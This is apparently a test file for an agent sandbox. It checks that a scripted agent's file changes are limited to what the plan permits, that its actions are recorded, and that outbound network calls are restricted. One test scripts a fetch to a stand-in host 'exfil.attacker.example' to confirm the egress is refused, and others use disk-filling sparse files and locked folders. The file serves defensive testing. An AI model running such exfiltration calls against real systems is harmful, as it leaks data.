import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { mkdtempSync, readdirSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Provider, ProviderRequest } from "@slipway/agents/provider";
import { telemetryOf } from "@slipway/kernel/budget/telemetry";
import type { Policy } from "@slipway/kernel/config/policy";
import type { Kernel } from "@slipway/kernel/kernel";
import type { Plan } from "@slipway/kernel/change/plan/schema";
import type { Sandbox } from "@slipway/kernel/host/sandbox/contract";
import { openSandbox } from "@slipway/kernel/host/sandbox/sandbox";
import { sandboxWorksHere } from "@slipway/kernel/host/sandbox/testing/scratch";
import { afterEach, beforeAll, describe, expect, test } from "vitest";
import { openDispatcher } from "../dispatch/dispatcher.ts";
import { writeRules } from "./folder.ts";
import { featuresRole } from "./roles.ts";
import { openWorkshop, planFor, resultOf, type Workshop } from "./testing/workshop.ts";

let services: Workshop | undefined;
afterEach(async () => {
  await services?.close();
  services = undefined;
});

type Act = (request: ProviderRequest) => Promise<unknown>;

/** An agent that runs the script as a process in its folder. */
function working(script: Readonly<Record<string, readonly Act[]>>) {
  const asked: ProviderRequest[] = [];
  const warnings: string[] = [];
  const turns = new Map<string, number>();
  const provider: Provider = {
    name: "working",
    works: "folder",
    async invoke(request) {
      asked.push(request);
      const turn = turns.get(request.role) ?? 0;
      turns.set(request.role, turn + 1);
      const acts = script[request.role] ?? [];
      const answer = await acts[Math.min(turn, acts.length - 1)]?.(request);
      return { text: JSON.stringify(answer), usage: { input_tokens: 1, output_tokens: 1, cost_usd: 0 }, model: "m" };
    },
  };
  const dispatcher = (kernel: Kernel) =>
    openDispatcher({
      protocol: () => "features",
      kernel,
      role: (name) => featuresRole(name, async () => null),
      provider: async () => ({ provider, model: "m" }),
      onWarning: (warning) => warnings.push(warning),
    });
  return { asked, warnings, dispatcher };
}

/** Runs a line of shell as the agent's process. */
async function shell({ workplace }: ProviderRequest, line: string, hosts: readonly string[] = []): Promise<string> {
  let output = "";
  await workplace?.run({
    command: ["sh", "-c", line],
    env: {},
    input: "",
    programs: [],
    home: mkdtempSync(join(tmpdir(), "slipway-agent-home-")),
    hosts,
    timeoutMs: 20_000,
    signal: new AbortController().signal,
    onStdout: (chunk) => (output += Buffer.from(chunk).toString("utf8")),
  });
  return output;
}

const PATCH = { type: "PATCH", summary: "one to two" };
const plans: Act = async () => planFor();
const notes: Act = async () => ({
  type: "NOTE",
  text: "nothing is missing",
  updates: [{ path: "src/a.txt", hunks: [{ start_line: 1, end_line: 1 }], status: "passed" }],
});

describe.runIf(sandboxWorksHere())("an agent that works in a folder", () => {
  let sandbox: Sandbox;
  beforeAll(async () => void (sandbox = await openSandbox()));

  test("it is told which of its files were discarded when the gate fails without them", async () => {
    const told: string[] = [];
    const broken: Act = async (request) => {
      await shell(request, "echo BUG > src/a.txt; echo needed > src/set.txt");
      return PATCH;
    };
    const repaired: Act = async (request) => {
      told.push(request.prompt);
      await shell(request, "echo two > src/a.txt");
      return PATCH;
    };
    services = await openWorkshop(
      {},
      { dispatcher: working({ planner: [plans], builder: [broken, repaired], qa: [notes] }).dispatcher, sandbox },
    );
    await services.drive(await services.start());
    expect(told[0]).toMatch(/# Material[^]*gate_failed: [^]*Not adopted from the agent's folder: src\/set\.txt [^]*BUG/);
  });

  test("its patch is what it changed there, whatever it claims; other changes are dropped with a warning", async () => {
    const seen: string[] = [];
    const builder: Act = async (request) => {
      seen.push(
        await shell(request, "find . -type f | sort; cat src/a.txt; echo two > src/a.txt; echo new > src/b.txt; echo x > check.sh"),
      );
      return { ...PATCH, unified_diff: "--- a/check.sh\n+++ b/check.sh\n" };
    };
    const { asked, warnings, dispatcher } = working({ planner: [plans], builder: [builder], qa: [notes] });
    services = await openWorkshop({}, { dispatcher, sandbox });
    const runId = await services!.start();
    expect((await services!.drive(runId)).status).toBe("waiting");

    // Slipway's own settings are not in the folder.
    expect(seen).toEqual(["./check.sh\n./src/a.txt\n./src/b.txt\none\n"]);
    expect(services!.read(".worktrees/letters/src/a.txt")).toBe("two\n");
    expect(services!.read(".worktrees/letters/src/b.txt")).toBe("one\n");
    expect(warnings).toEqual(["Not adopted from the agent's folder: src/b.txt (changed: it may be read and not changed)."]);
    const [question] = await services!.open();
    expect(question?.context["review"]).toMatchObject({ diff: { files: [{ path: "src/a.txt" }] } });
    await services!.approve(question!);
    expect(resultOf(await services!.drive(runId))?.status).toBe("merged");

    // Only the cached contents remain, for the next pack.
    await expect.poll(() => readdirSync(services!.kernel.repository.ungated.packs).toSorted()).toEqual([".swept", "blobs"]);
    const planner = asked.find(({ role }) => role === "planner");
    expect(planner?.prompt).toContain("You cannot change them.");
    expect(planner?.prompt).not.toMatch(/^## \d+\. (file|listing)/m);
    expect(asked.find(({ role }) => role === "builder")?.prompt).toContain('- "src/a.txt"');
  });

  test("a claim without a change is refused, and the next attempt sees the refusal", async () => {
    const { asked, dispatcher } = working({
      planner: [plans],
      builder: [
        async () => ({ ...PATCH, unified_diff: "--- a/src/a.txt\n+++ b/src/a.txt\n@@ -1 +1 @@\n-one\n+two\n" }),
        async (request) => (await shell(request, "echo two > src/a.txt"), PATCH),
      ],
      qa: [notes],
    });
    services = await openWorkshop({}, { dispatcher, sandbox });
    await services!.drive(await services!.start());
    const builds = asked.filter(({ role }) => role === "builder");
    expect(builds).toHaveLength(2);
    expect(builds[1]?.input.last_tool_results).toMatch(/patch_rejected: The builder claims a patch \(one to two\)/);
    expect(services!.read(".worktrees/letters/src/a.txt")).toBe("two\n");
  });

  test("what it read, saw and changed is kept with the transcript", async () => {
    const builder: Act = async (request) => {
      await request.workplace?.tree.read("src/a.txt");
      await request.workplace?.tree.write("src/a.txt", Buffer.from("two\n"));
      return PATCH;
    };
    const { dispatcher } = working({ planner: [plans], builder: [builder], qa: [notes] });
    services = await openWorkshop({}, { dispatcher, sandbox });
    await services!.drive(await services!.start());
    const { records } = services!.kernel;
    const row = (await telemetryOf(records.database.db, { feature_id: "letters" })).find(({ role }) => role === "builder");
    const transcript = Buffer.from(await records.objects.get(row?.transcript_digest ?? "")).toString();
    const digest = /context_pack\\?":\\?"([0-9a-f]{64})/.exec(transcript)?.[1];
    const account = JSON.parse(Buffer.from(await records.objects.get(digest ?? "")).toString());
    expect(account).toMatchObject({
      manifest: {
        included: expect.arrayContaining([
          expect.objectContaining({ path: "src/a.txt", permission: "write", reason: "the plan's files.modify" }),
          expect.objectContaining({ path: "check.sh", permission: "read" }),
        ]),
        excluded: [{ path: "slipway", reason: "Slipway's configuration is not part of the work", sealed: false }],
      },
      reads: [{ path: "src/a.txt", tool: "read", digest: expect.stringMatching(/^[0-9a-f]{64}$/) }],
      changed: ["src/a.txt"],
      dropped: [],
    });
    expect(transcript).toContain("+two");
  });

  test("B13: folders below the longest path, closed ones and sparse files stop neither this feature nor the repository", async () => {
    const deep = 'for (let n = 0; n < 300; n++) { fs.mkdirSync("d".repeat(60)); process.chdir("d".repeat(60)); }';
    const lines = [
      "echo two > src/a.txt",
      "cd src",
      `node -e '${deep}'`,
      "truncate -s 1900M sparse1 sparse2",
      "mkdir -p closed/inner && echo x > closed/inner/file && chmod 000 closed/inner/file closed/inner closed",
      "echo left",
    ];
    const left: string[] = [];
    const builder: Act = async (request) => (left.push(await shell(request, lines.join("\n"))), PATCH);
    const { dispatcher } = working({ planner: [plans], builder: [builder], qa: [notes] });
    services = await openWorkshop({}, { dispatcher, sandbox });
    const runId = await services!.start();
    await services!.drive(runId);
    expect(left).toEqual(["left\n"]);
    expect(services!.read(".worktrees/letters/src/a.txt")).toBe("two\n");
    const [question] = await services!.open();
    await services!.approve(question!);
    expect(resultOf(await services!.drive(runId))?.status).toBe("merged");
    await expect.poll(() => readdirSync(services!.kernel.repository.ungated.packs).toSorted()).toEqual([".swept", "blobs"]);
  });

  test("B24: what left is kept with the transcript, and other hosts are refused", async () => {
    const server = createServer((_, response) => response.end("the model"));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
    const ask = (url: string) => `await fetch("${url}").then((answer) => answer.text(), () => null);`;
    const script = `(async () => { ${ask(`http://${host}/?secret`)} ${ask("http://exfil.attacker.example/")} })()`;
    const builder: Act = async (request) => {
      await shell(request, `echo two > src/a.txt; node -e '${script}'`, [host]);
      return PATCH;
    };
    const { dispatcher } = working({ planner: [plans], builder: [builder], qa: [notes] });
    services = await openWorkshop({}, { dispatcher, sandbox });
    await services!.drive(await services!.start());
    server.close();
    const { records } = services!.kernel;
    const row = (await telemetryOf(records.database.db, { feature_id: "letters" })).find(({ role }) => role === "builder");
    const transcript = Buffer.from(await records.objects.get(row?.transcript_digest ?? "")).toString();
    const line = transcript.split("\n").find((text) => text.includes("egress")) ?? "{}";
    expect(JSON.parse(JSON.parse(line).line)).toMatchObject({
      egress: [
        { host, connections: 1, refused: [] },
        { host: "exfil.attacker.example:80", connections: 0, bytes_out: 0, refused: ["the host is not one that the command may reach"] },
      ],
    });
  });
});

describe("what may be written in a folder", () => {
  const { plan } = planFor("letters", {
    files: { create: ["new.txt"], modify: ["src/a.txt"], delete: ["old.txt"] },
    allowed_areas: ["src", "docs"],
    forbidden_areas: ["src/gen"],
  }) as unknown as { plan: Plan };
  const rules = (enforce_plan: boolean, enforce_allowed_areas: boolean, matching: "repo_prefix" | "glob") => {
    const policy = { patch_policy: { enforce_plan, enforce_allowed_areas }, path_rules: { matching } } as unknown as Policy;
    return writeRules(plan, policy).map((rule) => `${rule.path} ${rule.level === "FULL" ? rule.permission : "none"}`);
  };

  test.each([
    ["the plan's files, if the plan is enforced", rules(true, true, "repo_prefix"), ["new.txt write", "src/a.txt write", "old.txt write"]],
    ["the plan's areas, if only areas are enforced", rules(false, true, "repo_prefix"), ["src write", "docs write", "src/gen read"]],
    ["everything except the forbidden areas, if neither is enforced", rules(false, false, "repo_prefix"), [". write", "src/gen read"]],
    ["everything, if the areas are patterns; the kernel checks the patch", rules(false, true, "glob"), [". write"]],
  ])("is %s", (_what, granted, expected) => expect(granted).toEqual(expected));
});

test("without a sandbox every file in the folder is a copy, so that no write reaches the shared cache", async () => {
  const links: number[] = [];
  const builder: Act = async (request) => {
    links.push(
      Number((await shell(request, "chmod +w check.sh; echo evil > check.sh; echo two > src/a.txt; stat -c %h src/b.txt")).trim()),
    );
    return PATCH;
  };
  const { dispatcher } = working({ planner: [plans], builder: [builder], qa: [notes] });
  services = await openWorkshop({}, { dispatcher });
  await services!.drive(await services!.start());
  expect(links).toEqual([1]);
  const blobs = join(services!.kernel.repository.ungated.packs, "blobs");
  const contents = readdirSync(blobs, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => readFileSync(join(entry.parentPath, entry.name), "utf8"));
  expect(contents).not.toContain("evil\n");
  expect(services!.read(".worktrees/letters/src/a.txt")).toBe("two\n");
});
